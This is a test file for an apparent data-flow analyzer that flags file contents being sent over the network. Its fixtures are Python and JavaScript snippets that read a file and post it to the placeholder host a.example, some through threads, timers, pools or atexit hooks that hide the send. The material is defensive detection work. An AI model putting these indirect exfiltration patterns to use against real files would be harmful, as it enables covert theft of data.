import { expect, it } from 'vitest'

import { factsOf, flows, spec } from '../testkit.js'

const sent = {
  ...spec,
  language: '*' as const,
  sources: [
    { pattern: 'open', tag: 'file' },
    { pattern: 'fs.readFileSync', tag: 'file' },
  ],
  sinks: [
    { pattern: 'requests.post', tag: 'net' },
    { pattern: 'fetch', tag: 'net' },
  ],
}
const python = 'import asyncio, atexit, threading, requests\nd = open("x").read()\n'
const script = 'import fs from "fs"\nconst d = fs.readFileSync("x", "utf8")\n'

it.each([
  [
    'a thread',
    'a.py',
    `${python}threading.Thread(target=requests.post, args=("https://a.example", d)).start()`,
  ],
  [
    'a timer',
    'a.py',
    `${python}threading.Timer(5, requests.post, ["https://a.example"], {"data": d}).start()`,
  ],
  [
    'a pool',
    'a.py',
    `from concurrent.futures import ThreadPoolExecutor\n${python}with ThreadPoolExecutor() as pool:\n    pool.submit(requests.post, "https://a.example", d)`,
  ],
  [
    'another thread',
    'a.py',
    `${python}async def m():\n    await asyncio.to_thread(requests.post, "https://a.example", d)`,
  ],
  ['the end of the program', 'a.py', `${python}atexit.register(requests.post, "https://a.example", d)`],
  [
    'a function of its own',
    'a.py',
    `${python}def send(x):\n    requests.post("https://a.example", data=x)\natexit.register(send, d)`,
  ],
  ['a clock', 'a.js', `${script}setTimeout(fetch, 10, "https://a.example", { body: d })`],
])('%s calls what it is handed with what it is handed', async (_, path, code) => {
  const facts = await factsOf({ [path]: code }, [sent])
  expect(flows(facts).length).toBeGreaterThan(0)
  const [flow] = facts.filter(({ kind }) => kind === 'code.flow')
  expect(flow?.['url.domain']).toBe('a.example')
})

it('what is handed over and given nothing sends nothing', async () => {
  const facts = await factsOf({ 'a.py': `${python}atexit.register(requests.post, "https://a.example")` }, [
    sent,
  ])
  expect(flows(facts)).toEqual([])
})

it('a table that is asked by a key that is not known gives any of its lists', async () => {
  const code = `import sys, requests
ways = {"one": (["a"], 1), "two": (open("x").read(), 2)}
got, _ = ways.get(sys.platform, ways["one"])
requests.post("https://a.example", data=got)
`
  const facts = await factsOf({ 'a.py': code }, [sent])
  const found = facts.filter(({ kind }) => kind === 'code.flow')
  expect(found.map((flow) => flow['url.domain'])).toEqual(['a.example'])
})
